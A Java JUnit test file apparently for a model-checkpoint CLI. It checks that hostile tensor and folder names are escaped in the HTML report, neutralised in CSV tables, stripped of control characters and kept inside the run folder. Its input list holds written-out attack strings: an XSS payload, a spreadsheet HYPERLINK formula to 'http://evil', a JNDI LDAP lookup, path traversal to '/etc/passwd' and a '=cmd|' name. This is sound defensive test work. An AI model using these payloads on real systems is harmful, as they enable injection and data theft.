package dev.orograph.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.orograph.checkpoint.Checkpoint;
import dev.orograph.checkpoint.SafetensorsWriter.Entry;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Names that strangers chose: shown as they are, obeyed by nobody. */
class HostileNamesTest {
  private static final List<String> NAMES =
      List.of(
          "</script><img src=x onerror=alert(1)>",
          "<!--",
          "=HYPERLINK(\"http://evil\",\"click\")",
          "@SUM(1+1)",
          "+1",
          "-1",
          "a name with  two spaces ",
          "\u202egnp.exe",
          "zero\u200bwidth",
          "\ufeffmark",
          "x".repeat(300),
          "../../x",
          "/etc/passwd",
          "..\\..\\x",
          "C:\\x",
          "con",
          "a,b\"c",
          "{{data}}",
          "${jndi:ldap://evil}",
          "%s%n%d",
          "$1",
          "\ud83d\ude00",
          "layers.99999999999999999999.w",
          "layers.7.__proto__",
          "constructor",
          "model",
          "model.weight",
          "embedding",
          "a b.weight",
          "a_b.weight",
          "a;b.weight",
          "A_b.weight");

  @TempDir private static Path dir;
  private static Path model;
  private static Path run;
  private static Cli.Outcome outcome;

  @BeforeAll
  static void survey() {
    List<Entry> entries = new ArrayList<>();
    for (String name : NAMES) {
      entries.add(Models.normal(name, name.hashCode(), 6, 5));
    }
    model = Models.of(dir.resolve("sub").resolve("model"), entries);
    run = dir.resolve("sub").resolve("run");
    outcome = Cli.inside("survey", model, "--out", run);
  }

  @Test
  void everyNameArrivesAsItIs() {
    outcome.exits(0);
    JsonNode results = Runs.results(run);
    assertThat(Runs.tensors(Runs.finding(results, "spectra.matrix")))
        .containsExactlyInAnyOrderElementsOf(NAMES);
    assertThat(Runs.tensors(Runs.finding(results, "sparsity.tensors")))
        .containsExactlyInAnyOrderElementsOf(NAMES);
    try (Checkpoint arrays = Checkpoint.open(run.resolve("arrays/spectra.safetensors"))) {
      assertThat(arrays.tensors().stream().map(t -> t.name()))
          .containsExactlyInAnyOrderElementsOf(NAMES);
    }
  }

  @Test
  void everyFileLiesInTheRunFolderUnderAPlainName() {
    outcome.exits(0);
    assertThat(Runs.files(run).keySet())
        .containsExactly(
            ".lock",
            "arrays/spectra.safetensors",
            "report.html",
            "results.json",
            "run.json",
            "tables/sparsity.components.csv",
            "tables/sparsity.tensors.csv",
            "tables/sparsity.unlike.csv",
            "tables/spectra.components.csv",
            "tables/spectra.matrix.csv");
    assertThat(Runs.files(dir).keySet()).allMatch(f -> f.startsWith("sub/"));
  }

  @Test
  void theReportHoldsNoMarkupOfTheirs() throws IOException {
    outcome.exits(0);
    Path tame = Models.of(dir.resolve("sub/tame"), Models.normal("tame.weight", 1, 6, 5));
    Path other = dir.resolve("sub/other");
    Cli.inside("survey", tame, "--out", other).exits(0);
    String report = Files.readString(run.resolve("report.html"));
    String expected = Files.readString(other.resolve("report.html"));
    assertThat(report).doesNotContain("<img src=x").contains("\\u003cimg src=x");
    for (String markup : List.of("<script", "</script", "<!--", "<img", "<style")) {
      assertThat(count(report, markup)).as(markup).isEqualTo(count(expected, markup));
    }
    assertThat(report).doesNotContain("\u202e", "\u200b");
  }

  private static int count(String text, String part) {
    return text.split(java.util.regex.Pattern.quote(part), -1).length - 1;
  }

  @Test
  void noSpreadsheetRunsThem() throws IOException {
    outcome.exits(0);
    for (Map.Entry<String, byte[]> file : Runs.files(run.resolve("tables")).entrySet()) {
      String csv = new String(file.getValue(), StandardCharsets.UTF_8);
      assertThat(csv).doesNotContain("\u202e", "\u200b");
      for (String line : csv.split("\r\n", -1)) {
        assertThat(line)
            .as(file.getKey())
            .doesNotMatch("^\"?[=+@].*")
            .doesNotMatch("^\"?-[^0-9].*");
      }
    }
    assertThat(Files.readString(run.resolve("tables/spectra.matrix.csv")))
        .contains("\"'=HYPERLINK(\"\"http://evil\"\",\"\"click\"\")\"", "'@SUM(1+1),");
  }

  @Test
  void noTerminalActsOnThem() {
    outcome.exits(0);
    List<Cli.Outcome> all =
        List.of(
            outcome,
            Cli.inside("inspect", model, "--tensors", "--hash").exits(0),
            Cli.inside("survey", model, "--out", run).exits(0),
            Cli.inside("get", run, "--list").exits(0),
            Cli.inside("get", run, "spectra.matrix").exits(0),
            Cli.inside("get", run, "spectra.matrix", "--json").exits(0));
    for (Cli.Outcome o : all) {
      assertThat((o.out() + o.err()).chars().filter(c -> c != '\n' && c != '\r'))
          .as("control and format characters")
          .noneMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT);
    }
  }

  @Test
  void everyIdThatIsListedCanBeGot() {
    outcome.exits(0);
    JsonNode results = Runs.results(run);
    List<String> ids = new ArrayList<>();
    results
        .path("sections")
        .forEach(s -> s.path("findings").forEach(f -> ids.add(f.path("id").asText())));
    assertThat(ids).doesNotHaveDuplicates().allMatch(id -> id.matches("[A-Za-z0-9_.*+#~-]+"));
    String list = Cli.inside("get", run, "--list").exits(0).out();
    assertThat(list.lines()).hasSize(ids.size());
    for (String id : List.of(ids.get(1), ids.get(ids.size() / 2), ids.get(ids.size() - 1))) {
      assertThat(Cli.inside("get", run, id, "--json").exits(0).out()).contains("\"" + id + "\"");
    }
  }

  @Test
  void aHostileFolderNameStaysInside() throws IOException {
    Path odd = dir.resolve("sub").resolve("=cmd|' <b>\u202e");
    Models.of(odd, Models.normal("a.weight", 1, 6, 5));
    Path runs = dir.resolve("sub").resolve("runs");
    Cli.Outcome said =
        Cli.inside("survey", odd, dir.resolve("nowhere\u001b[2J"), "--out", runs).exits(1);
    assertThat(said.out() + said.err()).doesNotContain("\u202e", "\u001b");
    try (var made = Files.list(runs)) {
      assertThat(made.map(p -> p.getFileName().toString()))
          .singleElement()
          .asString()
          .matches("[A-Za-z0-9._-]+");
    }
  }
}
